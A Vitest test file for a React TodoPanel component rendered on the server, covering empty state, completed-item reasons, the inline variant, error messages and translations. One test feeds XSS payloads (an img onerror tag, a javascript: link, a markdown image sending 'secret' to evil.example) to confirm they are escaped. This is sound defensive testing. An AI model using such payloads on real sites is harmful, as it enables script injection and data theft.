import { createElement as h, type ReactElement } from 'react'
import { renderToString } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { emptyView, type TodoSource, type TodoView } from '../core/todo.ts'
import type { TodoPanelLabels } from './labels.ts'
import { TodoPanel } from './TodoPanel.tsx'

const saved: TodoView = {
  ...emptyView,
  persistence: 'saved',
  todos: [{ id: 1, content: 'Read', status: 'pending', createdAt: 0 }],
}

const session: TodoSource = {
  id: 's1',
  store: { getState: () => saved, getInitialState: () => emptyView, subscribe: () => () => {} },
}

describe('on a server', () => {
  test('a session renders as it was before anything was read', () => {
    const html = renderToString(h(TodoPanel, { session }))
    expect(html).toContain('Nothing planned yet')
    expect(html).not.toContain('Read')
  })

  test('plain todos render as text', () => {
    const content =
      '<img src=x onerror=alert(1)> [a](javascript:alert(1)) ![p](https://evil.example/?q=secret)'
    const html = renderToString(h(TodoPanel, { todos: [{ id: 1, content, status: 'pending' }] }))
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt; [a](javascript:alert(1)) ![p](https://evil')
    expect(html).not.toMatch(/<(img|a|script)[ >]/)
  })

  test('the reason of a completed item stands behind a closed disclosure', () => {
    const html = renderToString(
      h(TodoPanel, {
        todos: [
          { id: 1, content: 'Read', status: 'completed' },
          { id: 2, content: 'Write', status: 'pending' },
        ],
        reasons: { 1: 'read twice', 2: 'not yet' },
      }),
    )
    expect(html).toContain(
      '<details class="todo-panel-reason"><summary tabindex="-1">How it was finished</summary><span dir="auto">read twice</span></details>',
    )
    expect(html).not.toContain('not yet')
  })

  test('the time of the current item is left to the client', () => {
    const html = renderToString(
      h(TodoPanel, { todos: [{ id: 1, content: 'Read', status: 'in_progress', startedAt: 0 }] }),
    )
    expect(html).toContain('class="todo-panel-aside"></span>')
  })
})

test('an inline list is static: no live region, no clock, no button of a run, and each status in words', () => {
  const html = renderToString(
    h(TodoPanel, {
      variant: 'inline',
      todos: [
        { id: 1, content: 'Read', status: 'completed', startedAt: 0, completedAt: 4000 },
        { id: 2, content: 'Review', status: 'in_progress', startedAt: 0 },
        { id: 3, content: 'Write', status: 'pending' },
      ],
      run: { status: 'interrupted' },
      controls: { resume() {} },
    }),
  )
  expect(html).toMatch(/^<section [^>]*data-variant="inline"/)
  expect(html).toContain('role="group"')
  expect(html).not.toMatch(/role="status"|Resume|data-run|data-paused/)
  const words = html.replace(/<svg.*?<\/svg>/g, '').replace(/<[^>]+>/g, '|')
  expect(words).toMatch(/Done.*Read.*4.s.*Review.*In progress.*To do.*Write/)
})

test('a part outside of a panel says what to do', () => {
  expect(() => renderToString(h(TodoPanel.Header))).toThrow(
    '<TodoPanel.Header> has no panel. Put it inside <TodoPanel.Root>.',
  )
})

test.each([0, -1, Number.NaN])('a limit of %s rows is refused with what to do', (maxVisible) => {
  expect(() => renderToString(h(TodoPanel, { todos: [], maxVisible }))).toThrow(
    new TypeError(`\`maxVisible\` of a panel is ${maxVisible}. Let it be 1 or more.`),
  )
})

test('an unknown variant is refused with what to do', () => {
  const variant = 'sheet' as 'bar'
  expect(() => renderToString(h(TodoPanel, { todos: [], variant }))).toThrow(
    new TypeError('`variant` of a panel is sheet. Let it be card, bar or inline.'),
  )
})

test('what is no session is refused with what to do', () => {
  const session = { session: {} } as never
  expect(() => renderToString(h(TodoPanel, { session }))).toThrow(/`session` of a panel .*`agent\.session`/)
})

test('words that a translation lacks are English', () => {
  const labels = { title: 'Aufgaben' } as TodoPanelLabels
  const html = renderToString(
    h(TodoPanel, { todos: [{ id: 1, content: 'Lesen', status: 'in_progress' }], labels }),
  )
  expect(html).toMatch(/Aufgaben.*0 of 1.*In progress/)
})

test('a part can render another element with all that it would have given its own', () => {
  const html = renderToString(
    h(
      TodoPanel.Root,
      {
        todos: [],
        className: 'mine',
        id: 'root',
        render: ({ children, ...props }) => h('main', props, children),
      },
      h(TodoPanel.Empty, { render: (props): ReactElement => h('h2', props), style: { color: 'red' } }),
    ),
  )
  expect(html).toMatch(/^<main [^>]*class="todo-panel mine"/)
  expect(html).toContain('<h2 dir="auto" style="color:red" class="todo-panel-empty">')
})
